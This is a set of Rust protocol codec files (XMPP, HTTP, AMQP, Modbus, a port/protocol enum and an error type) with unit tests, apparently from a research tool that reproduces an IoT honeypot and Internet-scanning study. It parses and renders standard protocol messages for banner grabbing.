            s.push_str("<mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>");
            for m in &self.mechanisms {
                s.push_str(&format!("<mechanism>{}</mechanism>", m.name()));
            }
            s.push_str("</mechanisms>");
        }
        s.push_str("</stream:features>");
        s
    }

    /// Extract features from a received banner. Tolerant of surrounding
    /// noise; fails only if no stream header is present at all.
    pub fn parse(banner: &str) -> Result<StreamFeatures, WireError> {
        if !banner.contains("<stream:stream") {
            return Err(WireError::BadMagic { what: "xmpp stream" });
        }
        let attr = |name: &str| -> Option<String> {
            let pat = format!("{name}='");
            let start = banner.find(&pat)? + pat.len();
            let end = banner[start..].find('\'')? + start;
            Some(banner[start..end].to_string())
        };
        let mut mechanisms = Vec::new();
        let mut rest = banner;
        while let Some(start) = rest.find("<mechanism>") {
            let after = &rest[start + "<mechanism>".len()..];
            let Some(end) = after.find("</mechanism>") else {
                break;
            };
            if let Some(m) = Mechanism::from_name(&after[..end]) {
                mechanisms.push(m);
            }
            rest = &after[end..];
        }
        let starttls = if banner.contains("<starttls") {
            if banner.contains("<required/>") {
                Some(TlsPolicy::Required)
            } else {
                Some(TlsPolicy::Optional)
            }
        } else {
            None
        };
        Ok(StreamFeatures {
            from: attr("from").unwrap_or_default(),
            id: attr("id").unwrap_or_default(),
            starttls,
            mechanisms,
            version: attr("server-version"),
        })
    }

    pub fn offers(&self, m: Mechanism) -> bool {
        self.mechanisms.contains(&m)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hue_features() -> StreamFeatures {
        StreamFeatures {
            from: "philips-hue".into(),
            id: "s1".into(),
            starttls: None,
            mechanisms: vec![Mechanism::Plain, Mechanism::Anonymous],
            version: Some("ejabberd-2.1.11".into()),
        }
    }

    #[test]
    fn render_parse_roundtrip() {
        let f = hue_features();
        let banner = f.render();
        let back = StreamFeatures::parse(&banner).unwrap();
        assert_eq!(back, f);
        assert!(back.offers(Mechanism::Plain));
        assert!(back.offers(Mechanism::Anonymous));
        assert!(!back.offers(Mechanism::ScramSha1));
    }

    #[test]
    fn starttls_policies() {
        for (policy, needle) in [
            (TlsPolicy::Required, "<required/>"),
            (TlsPolicy::Optional, "<starttls"),
        ] {
            let f = StreamFeatures {
                starttls: Some(policy),
                ..hue_features()
            };
            let banner = f.render();
            assert!(banner.contains(needle));
            assert_eq!(StreamFeatures::parse(&banner).unwrap().starttls, Some(policy));
        }
    }

    #[test]
    fn client_open_is_wellformed() {
        let open = client_stream_open("example.org");
        assert!(open.starts_with("<?xml"));
        assert!(open.contains("to='example.org'"));
        assert!(open.contains("jabber:client"));
    }

    #[test]
    fn parse_requires_stream_header() {
        assert!(StreamFeatures::parse("HTTP/1.1 200 OK").is_err());
    }

    #[test]
    fn parse_ignores_unknown_mechanisms() {
        let banner = "<stream:stream from='x' id='1'><stream:features>\
                      <mechanisms><mechanism>PLAIN</mechanism>\
                      <mechanism>X-CUSTOM</mechanism></mechanisms></stream:features>";
        let f = StreamFeatures::parse(banner).unwrap();
        assert_eq!(f.mechanisms, vec![Mechanism::Plain]);
    }

    #[test]
    fn parse_tolerates_truncation() {
        let banner = "<stream:stream from='x' id='1'><mechanisms><mechanism>PLAIN";
        let f = StreamFeatures::parse(banner).unwrap();
        assert!(f.mechanisms.is_empty()); // unterminated mechanism dropped
        assert_eq!(f.from, "x");
    }
}
