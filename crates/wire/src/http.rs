//! Minimal HTTP/1.1 — requests and responses with headers and body.
//!
//! HTTP is simulated by HosTaGe, Conpot, and Dionaea; the paper observes
//! web-scraping, login brute force, HTTP floods, and crypto-miner injection
//! on it (§5.1.6). Banner grabs read the `Server` header; Telnet droppers
//! fetch payloads from infected URLs over HTTP (§5.3).

use crate::error::WireError;

/// An HTTP request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    pub method: String,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Request {
    pub fn get(path: &str) -> Request {
        Request {
            method: "GET".into(),
            path: path.into(),
            headers: vec![("Host".into(), "device".into())],
            body: Vec::new(),
        }
    }

    pub fn post(path: &str, body: impl Into<Vec<u8>>) -> Request {
        Request {
            method: "POST".into(),
            path: path.into(),
            headers: vec![("Host".into(), "device".into())],
            body: body.into(),
        }
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        header_lookup(&self.headers, name)
    }

    pub fn render(&self) -> Vec<u8> {
        render_message(
            &format!("{} {} HTTP/1.1", self.method, self.path),
            &self.headers,
            &self.body,
        )
    }

    pub fn parse(bytes: &[u8]) -> Result<Request, WireError> {
        let (start, headers, body) = parse_message(bytes, "http request")?;
        let mut parts = start.split(' ');
        let method = parts
            .next()
            .filter(|m| !m.is_empty())
            .ok_or_else(|| WireError::invalid("http request line", start.clone()))?;
        let path = parts
            .next()
            .ok_or_else(|| WireError::invalid("http request line", start.clone()))?;
        let version = parts
            .next()
            .ok_or_else(|| WireError::invalid("http request line", start.clone()))?;
        if !version.starts_with("HTTP/") {
            return Err(WireError::BadMagic { what: "http request" });
        }
        Ok(Request {
            method: method.to_string(),
            path: path.to_string(),
            headers,
            body,
        })
    }
}

/// An HTTP response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    pub status: u16,
    pub reason: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Response {
    pub fn ok(body: impl Into<Vec<u8>>) -> Response {
        let body = body.into();
        Response {
            status: 200,
            reason: "OK".into(),
            headers: vec![("Content-Type".into(), "text/html".into())],
            body,
        }
    }

    pub fn with_server(mut self, server: &str) -> Response {
        self.headers.push(("Server".into(), server.into()));
        self
    }

    pub fn status_only(status: u16, reason: &str) -> Response {
        Response {
            status,
            reason: reason.into(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    pub fn header(&self, name: &str) -> Option<&str> {
        header_lookup(&self.headers, name)
    }

    pub fn render(&self) -> Vec<u8> {
        render_message(
            &format!("HTTP/1.1 {} {}", self.status, self.reason),
            &self.headers,
            &self.body,
        )
    }

    pub fn parse(bytes: &[u8]) -> Result<Response, WireError> {
        let (start, headers, body) = parse_message(bytes, "http response")?;
        let rest = start
            .strip_prefix("HTTP/1.1 ")
            .or_else(|| start.strip_prefix("HTTP/1.0 "))
            .ok_or(WireError::BadMagic { what: "http response" })?;
        let (code, reason) = rest.split_once(' ').unwrap_or((rest, ""));
        let status: u16 = code
            .parse()
            .map_err(|_| WireError::invalid("http status", code.to_string()))?;
        Ok(Response {
            status,
            reason: reason.to_string(),
            headers,
            body,
        })
    }
}

fn header_lookup<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

fn render_message(start: &str, headers: &[(String, String)], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{start}\r\n").into_bytes();
    let mut has_len = false;
    for (k, v) in headers {
        if k.eq_ignore_ascii_case("content-length") {
            has_len = true;
        }
        out.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
    }
    if !has_len && !body.is_empty() {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(body);
    out
}

type ParsedMessage = (String, Vec<(String, String)>, Vec<u8>);

fn parse_message(bytes: &[u8], what: &'static str) -> Result<ParsedMessage, WireError> {
    let split = find_header_end(bytes)
        .ok_or(WireError::Truncated { what, needed: 4 })?;
    let head = std::str::from_utf8(&bytes[..split])
        .map_err(|_| WireError::invalid(what, "non-UTF-8 header block"))?;
    let body = bytes[split + 4..].to_vec();
    let mut lines = head.split("\r\n");
    let start = lines
        .next()
        .filter(|l| !l.is_empty())
        .ok_or_else(|| WireError::invalid(what, "empty start line"))?
        .to_string();
    let mut headers = Vec::new();
    for line in lines {
        let (k, v) = line
            .split_once(':')
            .ok_or_else(|| WireError::invalid(what, format!("bad header line {line:?}")))?;
        headers.push((k.trim().to_string(), v.trim().to_string()));
    }
    Ok((start, headers, body))
}

fn find_header_end(bytes: &[u8]) -> Option<usize> {
    bytes.windows(4).position(|w| w == b"\r\n\r\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_roundtrip() {
        let r = Request::get("/login.html");
        let back = Request::parse(&r.render()).unwrap();
        assert_eq!(back, r);
        assert_eq!(back.header("host"), Some("device"));
    }

    #[test]
    fn post_with_body() {
        let r = Request::post("/api/login", b"user=admin&pass=admin".to_vec());
        let wire = r.render();
        assert!(String::from_utf8_lossy(&wire).contains("Content-Length: 21"));
        let back = Request::parse(&wire).unwrap();
        assert_eq!(back.body, b"user=admin&pass=admin");
    }

    #[test]
    fn response_roundtrip() {
        let r = Response::ok(b"<html>Hue Bridge</html>".to_vec()).with_server("nginx/1.14.0");
        let back = Response::parse(&r.render()).unwrap();
        assert_eq!(back.status, 200);
        assert_eq!(back.header("Server"), Some("nginx/1.14.0"));
        assert_eq!(back.body, b"<html>Hue Bridge</html>");
    }

    #[test]
    fn status_only_response() {
        let r = Response::status_only(401, "Unauthorized");
        let back = Response::parse(&r.render()).unwrap();
        assert_eq!(back.status, 401);
        assert!(back.body.is_empty());
    }

    #[test]
    fn rejects_garbage() {
        assert!(Request::parse(b"").is_err());
        assert!(Request::parse(b"nonsense\r\n\r\n").is_err());
        assert!(Response::parse(b"SSH-2.0-x\r\n\r\n").is_err());
        // Header block never terminates.
        assert!(matches!(
            Request::parse(b"GET / HTTP/1.1\r\nHost: x\r\n"),
            Err(WireError::Truncated { .. })
        ));
    }
}
