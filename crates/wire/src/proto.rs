//! The protocol taxonomy of the study.
//!
//! Six protocols are Internet-scanned (Table 4/5/9); six more appear on the
//! honeypots (Table 7) and in the attack analysis (§5.1). A single enum keeps
//! every crate speaking the same names and ports.

use serde::{Deserialize, Serialize};

use crate::ports;

/// Every protocol the study touches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Protocol {
    Telnet,
    Mqtt,
    Coap,
    Amqp,
    Xmpp,
    Upnp,
    Ssh,
    Http,
    Ftp,
    Smb,
    Modbus,
    S7,
}

impl Protocol {
    /// The six protocols of the Internet-wide scan, in Table 9 scan order.
    pub const SCANNED: [Protocol; 6] = [
        Protocol::Coap,
        Protocol::Upnp,
        Protocol::Telnet,
        Protocol::Mqtt,
        Protocol::Amqp,
        Protocol::Xmpp,
    ];

    /// All protocols.
    pub const ALL: [Protocol; 12] = [
        Protocol::Telnet,
        Protocol::Mqtt,
        Protocol::Coap,
        Protocol::Amqp,
        Protocol::Xmpp,
        Protocol::Upnp,
        Protocol::Ssh,
        Protocol::Http,
        Protocol::Ftp,
        Protocol::Smb,
        Protocol::Modbus,
        Protocol::S7,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            Protocol::Telnet => "Telnet",
            Protocol::Mqtt => "MQTT",
            Protocol::Coap => "CoAP",
            Protocol::Amqp => "AMQP",
            Protocol::Xmpp => "XMPP",
            Protocol::Upnp => "UPnP",
            Protocol::Ssh => "SSH",
            Protocol::Http => "HTTP",
            Protocol::Ftp => "FTP",
            Protocol::Smb => "SMB",
            Protocol::Modbus => "Modbus",
            Protocol::S7 => "S7",
        }
    }

    /// Primary well-known port.
    pub const fn port(self) -> u16 {
        match self {
            Protocol::Telnet => ports::TELNET,
            Protocol::Mqtt => ports::MQTT,
            Protocol::Coap => ports::COAP,
            Protocol::Amqp => ports::AMQP,
            Protocol::Xmpp => ports::XMPP_CLIENT,
            Protocol::Upnp => ports::SSDP,
            Protocol::Ssh => ports::SSH,
            Protocol::Http => ports::HTTP,
            Protocol::Ftp => ports::FTP,
            Protocol::Smb => ports::SMB,
            Protocol::Modbus => ports::MODBUS,
            Protocol::S7 => ports::S7,
        }
    }

    /// Additional ports the paper scans for this protocol (Telnet is scanned
    /// on both 23 and 2323; XMPP on the client and server ports) — the reason
    /// the ZMap column of Table 4 exceeds Project Sonar's.
    pub fn extra_ports(self) -> &'static [u16] {
        match self {
            Protocol::Telnet => &[ports::TELNET_ALT],
            Protocol::Xmpp => &[ports::XMPP_SERVER],
            _ => &[],
        }
    }

    /// Whether the protocol rides UDP (response-based probing, Table 3)
    /// rather than TCP (banner-based probing, Table 2).
    pub const fn is_udp(self) -> bool {
        matches!(self, Protocol::Coap | Protocol::Upnp)
    }

    /// Protocol from a well-known port.
    pub fn from_port(port: u16) -> Option<Protocol> {
        match port {
            ports::TELNET | ports::TELNET_ALT => Some(Protocol::Telnet),
            ports::MQTT => Some(Protocol::Mqtt),
            ports::COAP => Some(Protocol::Coap),
            ports::AMQP => Some(Protocol::Amqp),
            ports::XMPP_CLIENT | ports::XMPP_SERVER => Some(Protocol::Xmpp),
            ports::SSDP => Some(Protocol::Upnp),
            ports::SSH => Some(Protocol::Ssh),
            ports::HTTP => Some(Protocol::Http),
            ports::FTP => Some(Protocol::Ftp),
            ports::SMB => Some(Protocol::Smb),
            ports::MODBUS => Some(Protocol::Modbus),
            ports::S7 => Some(Protocol::S7),
            _ => None,
        }
    }
}

impl std::fmt::Display for Protocol {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ports_roundtrip() {
        for p in Protocol::ALL {
            assert_eq!(Protocol::from_port(p.port()), Some(p), "{p}");
        }
        assert_eq!(Protocol::from_port(2323), Some(Protocol::Telnet));
        assert_eq!(Protocol::from_port(5269), Some(Protocol::Xmpp));
        assert_eq!(Protocol::from_port(59999), None);
    }

    #[test]
    fn scanned_set_is_the_papers() {
        assert_eq!(Protocol::SCANNED.len(), 6);
        assert!(Protocol::SCANNED.contains(&Protocol::Telnet));
        assert!(Protocol::SCANNED.iter().all(|p| Protocol::ALL.contains(p)));
    }

    #[test]
    fn udp_protocols() {
        assert!(Protocol::Coap.is_udp());
        assert!(Protocol::Upnp.is_udp());
        assert!(!Protocol::Telnet.is_udp());
    }
}
