//! Error type shared by all codecs.

use std::fmt;

/// A parse or encode failure. Decoders return precise errors and never panic
/// on arbitrary input — the fuzz-style proptests in each module rely on this.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WireError {
    /// Input ended before the structure was complete.
    Truncated {
        /// What was being parsed.
        what: &'static str,
        /// Bytes needed (best effort; 0 when unknown).
        needed: usize,
    },
    /// A field held a value the protocol does not allow.
    Invalid {
        what: &'static str,
        detail: String,
    },
    /// The payload does not start with the protocol's magic/signature.
    BadMagic { what: &'static str },
    /// A length field exceeds this implementation's sanity limit.
    TooLarge { what: &'static str, len: usize },
}

impl WireError {
    pub fn truncated(what: &'static str, needed: usize) -> Self {
        WireError::Truncated { what, needed }
    }

    pub fn invalid(what: &'static str, detail: impl Into<String>) -> Self {
        WireError::Invalid {
            what,
            detail: detail.into(),
        }
    }
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::Truncated { what, needed } => {
                write!(f, "truncated {what} (need {needed} more bytes)")
            }
            WireError::Invalid { what, detail } => write!(f, "invalid {what}: {detail}"),
            WireError::BadMagic { what } => write!(f, "bad magic for {what}"),
            WireError::TooLarge { what, len } => write!(f, "{what} length {len} exceeds limit"),
        }
    }
}

impl std::error::Error for WireError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_forms() {
        assert_eq!(
            WireError::truncated("mqtt header", 2).to_string(),
            "truncated mqtt header (need 2 more bytes)"
        );
        assert_eq!(
            WireError::invalid("coap code", "9.99").to_string(),
            "invalid coap code: 9.99"
        );
        assert_eq!(
            WireError::BadMagic { what: "smb" }.to_string(),
            "bad magic for smb"
        );
        assert_eq!(
            WireError::TooLarge { what: "mqtt remaining length", len: 1 << 30 }.to_string(),
            format!("mqtt remaining length length {} exceeds limit", 1 << 30)
        );
    }
}
