//! AMQP 0-9-1 — protocol header and Connection.Start codec.
//!
//! The paper's AMQP scan (port 5672) sends the protocol header and reads the
//! broker's `Connection.Start` method frame, whose server-properties reveal
//! product and version (e.g. RabbitMQ 2.7.1/2.8.4 — the known-vulnerable
//! versions of Table 2) and whose `mechanisms` field reveals whether
//! unauthenticated (`ANONYMOUS`) access is offered. We implement the general
//! frame wrapper plus the Connection.Start method with a flat
//! product/version/platform property table — the subset a banner grab needs.

use crate::error::WireError;

/// The 8-byte AMQP protocol header: `AMQP\0\0\x09\x01` for 0-9-1.
pub const PROTOCOL_HEADER: [u8; 8] = *b"AMQP\x00\x00\x09\x01";

/// Frame type octets.
pub mod frame_type {
    pub const METHOD: u8 = 1;
    pub const HEADER: u8 = 2;
    pub const BODY: u8 = 3;
    pub const HEARTBEAT: u8 = 8;
}

/// Frame-end sentinel octet.
pub const FRAME_END: u8 = 0xCE;

/// A raw AMQP frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    pub frame_type: u8,
    pub channel: u16,
    pub payload: Vec<u8>,
}

impl Frame {
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(8 + self.payload.len());
        out.push(self.frame_type);
        out.extend_from_slice(&self.channel.to_be_bytes());
        out.extend_from_slice(&(self.payload.len() as u32).to_be_bytes());
        out.extend_from_slice(&self.payload);
        out.push(FRAME_END);
        out
    }

    /// Decode one frame; returns (frame, bytes consumed).
    pub fn decode(bytes: &[u8]) -> Result<(Frame, usize), WireError> {
        if bytes.len() < 7 {
            return Err(WireError::truncated("amqp frame header", 7 - bytes.len()));
        }
        let frame_type = bytes[0];
        let channel = u16::from_be_bytes([bytes[1], bytes[2]]);
        let size = u32::from_be_bytes([bytes[3], bytes[4], bytes[5], bytes[6]]) as usize;
        if size > 1 << 20 {
            return Err(WireError::TooLarge {
                what: "amqp frame",
                len: size,
            });
        }
        let total = 7 + size + 1;
        if bytes.len() < total {
            return Err(WireError::truncated("amqp frame body", total - bytes.len()));
        }
        if bytes[total - 1] != FRAME_END {
            return Err(WireError::invalid("amqp frame end", format!("{:#04x}", bytes[total - 1])));
        }
        Ok((
            Frame {
                frame_type,
                channel,
                payload: bytes[7..7 + size].to_vec(),
            },
            total,
        ))
    }
}

/// The `Connection.Start` method (class 10, method 10) — the broker's banner.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConnectionStart {
    pub version_major: u8,
    pub version_minor: u8,
    /// Server properties, e.g. `product = "RabbitMQ"`, `version = "2.7.1"`.
    /// Flat string table (full AMQP field tables are overkill for banners).
    pub server_properties: Vec<(String, String)>,
    /// Space-separated SASL mechanisms, e.g. `"PLAIN AMQPLAIN"` or `"ANONYMOUS"`.
    pub mechanisms: String,
    /// Space-separated locales.
    pub locales: String,
}

fn put_short_str(out: &mut Vec<u8>, s: &str) {
    let len = s.len().min(255);
    out.push(len as u8);
    out.extend_from_slice(&s.as_bytes()[..len]);
}

fn put_long_str(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(&(s.len() as u32).to_be_bytes());
    out.extend_from_slice(s.as_bytes());
}

fn get_short_str(bytes: &[u8], pos: &mut usize) -> Result<String, WireError> {
    let len = *bytes
        .get(*pos)
        .ok_or(WireError::truncated("amqp short string", 1))? as usize;
    *pos += 1;
    if bytes.len() < *pos + len {
        return Err(WireError::truncated("amqp short string", *pos + len - bytes.len()));
    }
    let s = String::from_utf8_lossy(&bytes[*pos..*pos + len]).into_owned();
    *pos += len;
    Ok(s)
}

fn get_long_str(bytes: &[u8], pos: &mut usize) -> Result<String, WireError> {
    if bytes.len() < *pos + 4 {
        return Err(WireError::truncated("amqp long string", *pos + 4 - bytes.len()));
    }
    let len = u32::from_be_bytes([bytes[*pos], bytes[*pos + 1], bytes[*pos + 2], bytes[*pos + 3]])
        as usize;
    *pos += 4;
    if len > 1 << 20 {
        return Err(WireError::TooLarge {
            what: "amqp long string",
            len,
        });
    }
    if bytes.len() < *pos + len {
        return Err(WireError::truncated("amqp long string", *pos + len - bytes.len()));
    }
    let s = String::from_utf8_lossy(&bytes[*pos..*pos + len]).into_owned();
    *pos += len;
    Ok(s)
}

impl ConnectionStart {
    pub const CLASS_ID: u16 = 10;
    pub const METHOD_ID: u16 = 10;

    /// Encode as a method-frame payload (to wrap in a [`Frame`] on channel 0).
    pub fn encode_method(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(&Self::CLASS_ID.to_be_bytes());
        out.extend_from_slice(&Self::METHOD_ID.to_be_bytes());
        out.push(self.version_major);
        out.push(self.version_minor);
        // Property table: length-prefixed sequence of shortstr key + 'S' longstr value.
        let mut table = Vec::new();
        for (k, v) in &self.server_properties {
            put_short_str(&mut table, k);
            table.push(b'S');
            put_long_str(&mut table, v);
        }
        out.extend_from_slice(&(table.len() as u32).to_be_bytes());
        out.extend_from_slice(&table);
        put_long_str(&mut out, &self.mechanisms);
        put_long_str(&mut out, &self.locales);
        out
    }

    /// Decode from a method-frame payload.
    pub fn decode_method(bytes: &[u8]) -> Result<ConnectionStart, WireError> {
        let mut pos = 0usize;
        if bytes.len() < 4 {
            return Err(WireError::truncated("amqp method header", 4));
        }
        let class = u16::from_be_bytes([bytes[0], bytes[1]]);
        let method = u16::from_be_bytes([bytes[2], bytes[3]]);
        if class != Self::CLASS_ID || method != Self::METHOD_ID {
            return Err(WireError::invalid(
                "amqp method",
                format!("expected connection.start, got {class}.{method}"),
            ));
        }
        pos += 4;
        if bytes.len() < pos + 2 {
            return Err(WireError::truncated("amqp version", 2));
        }
        let version_major = bytes[pos];
        let version_minor = bytes[pos + 1];
        pos += 2;
        if bytes.len() < pos + 4 {
            return Err(WireError::truncated("amqp property table length", 4));
        }
        let table_len = u32::from_be_bytes([
            bytes[pos],
            bytes[pos + 1],
            bytes[pos + 2],
            bytes[pos + 3],
        ]) as usize;
        pos += 4;
        if table_len > 1 << 20 {
            return Err(WireError::TooLarge {
                what: "amqp property table",
                len: table_len,
            });
        }
        if bytes.len() < pos + table_len {
            return Err(WireError::truncated("amqp property table", pos + table_len - bytes.len()));
        }
        let table_end = pos + table_len;
        let mut server_properties = Vec::new();
        while pos < table_end {
            let k = get_short_str(bytes, &mut pos)?;
            let tag = *bytes
                .get(pos)
                .ok_or(WireError::truncated("amqp field tag", 1))?;
            pos += 1;
            if tag != b'S' {
                return Err(WireError::invalid("amqp field tag", format!("{:#04x}", tag)));
            }
            let v = get_long_str(bytes, &mut pos)?;
            server_properties.push((k, v));
        }
        let mechanisms = get_long_str(bytes, &mut pos)?;
        let locales = get_long_str(bytes, &mut pos)?;
        Ok(ConnectionStart {
            version_major,
            version_minor,
            server_properties,
            mechanisms,
            locales,
        })
    }

    /// Convenience accessor for a server property.
    pub fn property(&self, key: &str) -> Option<&str> {
        self.server_properties
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rabbit(version: &str, mechanisms: &str) -> ConnectionStart {
        ConnectionStart {
            version_major: 0,
            version_minor: 9,
            server_properties: vec![
                ("product".into(), "RabbitMQ".into()),
                ("version".into(), version.into()),
                ("platform".into(), "Erlang/OTP".into()),
            ],
            mechanisms: mechanisms.into(),
            locales: "en_US".into(),
        }
    }

    #[test]
    fn protocol_header_literal() {
        assert_eq!(&PROTOCOL_HEADER, b"AMQP\x00\x00\x09\x01");
    }

    #[test]
    fn connection_start_roundtrip() {
        let start = rabbit("2.7.1", "PLAIN AMQPLAIN");
        let back = ConnectionStart::decode_method(&start.encode_method()).unwrap();
        assert_eq!(back, start);
        assert_eq!(back.property("version"), Some("2.7.1"));
        assert_eq!(back.property("missing"), None);
    }

    #[test]
    fn frame_roundtrip() {
        let start = rabbit("2.8.4", "ANONYMOUS PLAIN");
        let frame = Frame {
            frame_type: frame_type::METHOD,
            channel: 0,
            payload: start.encode_method(),
        };
        let wire = frame.encode();
        assert_eq!(*wire.last().unwrap(), FRAME_END);
        let (back, used) = Frame::decode(&wire).unwrap();
        assert_eq!(used, wire.len());
        assert_eq!(back, frame);
        let method = ConnectionStart::decode_method(&back.payload).unwrap();
        assert!(method.mechanisms.contains("ANONYMOUS"));
    }

    #[test]
    fn frame_end_enforced() {
        let frame = Frame {
            frame_type: frame_type::HEARTBEAT,
            channel: 0,
            payload: vec![],
        };
        let mut wire = frame.encode();
        *wire.last_mut().unwrap() = 0x00;
        assert!(matches!(
            Frame::decode(&wire),
            Err(WireError::Invalid { .. })
        ));
    }

    #[test]
    fn rejects_wrong_method() {
        let mut payload = Vec::new();
        payload.extend_from_slice(&20u16.to_be_bytes()); // channel class
        payload.extend_from_slice(&10u16.to_be_bytes());
        assert!(ConnectionStart::decode_method(&payload).is_err());
    }

    #[test]
    fn rejects_truncations() {
        let start = rabbit("3.8.0", "PLAIN");
        let wire = start.encode_method();
        for cut in [0, 3, 5, 8, wire.len() - 1] {
            assert!(
                ConnectionStart::decode_method(&wire[..cut]).is_err(),
                "cut at {cut} must fail"
            );
        }
    }
}
