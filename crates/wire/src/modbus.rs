//! Modbus/TCP — MBAP header + PDU codec.
//!
//! Conpot simulates a Siemens PLC whose Modbus registers the paper saw
//! poisoned: "adversaries tried to access and change the values stored in the
//! registers", targeting three of the nineteen function codes — read device
//! identification, the holding register, and report server id — with only
//! 10% of traffic using valid function codes (§5.1.4).

use crate::error::WireError;

/// Function codes observed in the study.
pub mod function {
    pub const READ_HOLDING_REGISTERS: u8 = 0x03;
    pub const WRITE_SINGLE_REGISTER: u8 = 0x06;
    pub const REPORT_SERVER_ID: u8 = 0x11;
    pub const READ_DEVICE_IDENTIFICATION: u8 = 0x2B;
}

/// Exception code for an unsupported function (returned with the function
/// code's high bit set).
pub const EXCEPTION_ILLEGAL_FUNCTION: u8 = 0x01;
pub const EXCEPTION_ILLEGAL_ADDRESS: u8 = 0x02;

/// A Modbus/TCP frame: MBAP header + function + data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// Transaction id, echoed by the server.
    pub transaction_id: u16,
    /// Unit (slave) id.
    pub unit_id: u8,
    /// Function code. High bit set = exception response.
    pub function: u8,
    /// Function-specific data.
    pub data: Vec<u8>,
}

impl Frame {
    pub fn read_holding_registers(transaction_id: u16, start: u16, count: u16) -> Frame {
        let mut data = Vec::with_capacity(4);
        data.extend_from_slice(&start.to_be_bytes());
        data.extend_from_slice(&count.to_be_bytes());
        Frame {
            transaction_id,
            unit_id: 1,
            function: function::READ_HOLDING_REGISTERS,
            data,
        }
    }

    pub fn write_single_register(transaction_id: u16, addr: u16, value: u16) -> Frame {
        let mut data = Vec::with_capacity(4);
        data.extend_from_slice(&addr.to_be_bytes());
        data.extend_from_slice(&value.to_be_bytes());
        Frame {
            transaction_id,
            unit_id: 1,
            function: function::WRITE_SINGLE_REGISTER,
            data,
        }
    }

    /// Exception response to `request`.
    pub fn exception(request: &Frame, code: u8) -> Frame {
        Frame {
            transaction_id: request.transaction_id,
            unit_id: request.unit_id,
            function: request.function | 0x80,
            data: vec![code],
        }
    }

    pub fn is_exception(&self) -> bool {
        self.function & 0x80 != 0
    }

    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(8 + self.data.len());
        out.extend_from_slice(&self.transaction_id.to_be_bytes());
        out.extend_from_slice(&[0, 0]); // protocol id = 0 (Modbus)
        let len = 2 + self.data.len() as u16; // unit + function + data
        out.extend_from_slice(&len.to_be_bytes());
        out.push(self.unit_id);
        out.push(self.function);
        out.extend_from_slice(&self.data);
        out
    }

    pub fn decode(bytes: &[u8]) -> Result<Frame, WireError> {
        if bytes.len() < 8 {
            return Err(WireError::truncated("modbus mbap", 8 - bytes.len()));
        }
        let transaction_id = u16::from_be_bytes([bytes[0], bytes[1]]);
        let protocol = u16::from_be_bytes([bytes[2], bytes[3]]);
        if protocol != 0 {
            return Err(WireError::invalid("modbus protocol id", protocol.to_string()));
        }
        let len = u16::from_be_bytes([bytes[4], bytes[5]]) as usize;
        if len < 2 {
            return Err(WireError::invalid("modbus length", len.to_string()));
        }
        if bytes.len() < 6 + len {
            return Err(WireError::truncated("modbus pdu", 6 + len - bytes.len()));
        }
        Ok(Frame {
            transaction_id,
            unit_id: bytes[6],
            function: bytes[7],
            data: bytes[8..6 + len].to_vec(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn read_roundtrip() {
        let f = Frame::read_holding_registers(7, 0x0000, 10);
        let wire = f.encode();
        assert_eq!(&wire[..2], &[0, 7]); // transaction id
        assert_eq!(&wire[2..4], &[0, 0]); // protocol id
        assert_eq!(wire[7], function::READ_HOLDING_REGISTERS);
        assert_eq!(Frame::decode(&wire).unwrap(), f);
    }

    #[test]
    fn write_poisoning_frame() {
        let f = Frame::write_single_register(9, 0x0010, 0xDEAD);
        let back = Frame::decode(&f.encode()).unwrap();
        assert_eq!(back.function, function::WRITE_SINGLE_REGISTER);
        assert_eq!(&back.data, &[0x00, 0x10, 0xDE, 0xAD]);
    }

    #[test]
    fn exception_response() {
        let req = Frame {
            transaction_id: 3,
            unit_id: 1,
            function: 0x63, // invalid function, like 90% of observed traffic
            data: vec![],
        };
        let resp = Frame::exception(&req, EXCEPTION_ILLEGAL_FUNCTION);
        assert!(resp.is_exception());
        assert_eq!(resp.function, 0xE3);
        let back = Frame::decode(&resp.encode()).unwrap();
        assert_eq!(back, resp);
    }

    #[test]
    fn rejects_garbage() {
        assert!(Frame::decode(&[]).is_err());
        assert!(Frame::decode(&[0, 1, 0, 5, 0, 2, 1, 3]).is_err()); // protocol id 5
        let f = Frame::read_holding_registers(1, 0, 1);
        let wire = f.encode();
        assert!(Frame::decode(&wire[..7]).is_err());
    }
}
