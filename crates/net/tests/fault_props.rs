//! Property: the fault layer never reorders segments within one TCP
